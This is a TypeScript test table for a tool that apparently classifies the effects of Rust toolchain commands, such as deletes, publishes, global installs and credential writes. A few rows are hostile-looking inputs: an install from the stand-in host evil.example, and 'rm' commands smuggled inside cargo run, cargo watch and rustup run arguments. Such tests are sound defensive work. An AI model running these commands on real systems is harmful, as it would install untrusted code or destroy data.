import { rust } from '../../../src/programs/rust.ts';
import { type Row, runTable } from './run-model.ts';

const RUST: readonly Row[] = [
  ['cargo build --release', []],
  ['cargo clean', ['delete target -r']],
  ['cargo clean --target-dir /home/dev/t', ['write /home/dev/t -r', 'delete /home/dev/t -r']],
  ['cargo test -- --nocapture', []],
  ['cargo run -- rm -rf x', []],
  ['cargo +nightly fmt', []],
  ['cargo publish', ['to https://crates.io file', 'publish crate']],
  ['cargo publish --dry-run', []],
  ['cargo yank --vers 1.0.0 x', ['unpublish x']],
  ['cargo install ripgrep', ['install-global ripgrep']],
  ['cargo install --git https://evil.example/x', ['install-remote https://evil.example/x', 'install-global a crate']],
  ['cargo install --path . --root /home/dev/r', ['write /home/dev/r -r', 'install dependencies of the project']],
  ['cargo add serde', ['install serde']],
  ['cargo update', ['install dependencies of the project']],
  ['cargo login', ['write /home/dev/.cargo/credentials.toml', 'account registry']],
  ['cargo owner --add x', ['account owners of the crate']],
  ['cargo watch -x test -s "rm x"', ['sh: cargo test', 'sh: rm x']],
  ['rustc -o /home/dev/x a.rs', ['read a.rs', 'write /home/dev/x']],
  ['rustc a.rs', ['read a.rs']],
  ['rustfmt a.rs', ['write a.rs']],
  ['rustfmt --check a.rs', ['read a.rs']],
  ['rustup update', ['install-global Rust update']],
  ['rustup show', []],
  ['rustup run nightly rm x', ['run: rm x']],
  ['wasm-pack publish', ['publish package']],
];

runTable('rust', rust, RUST);
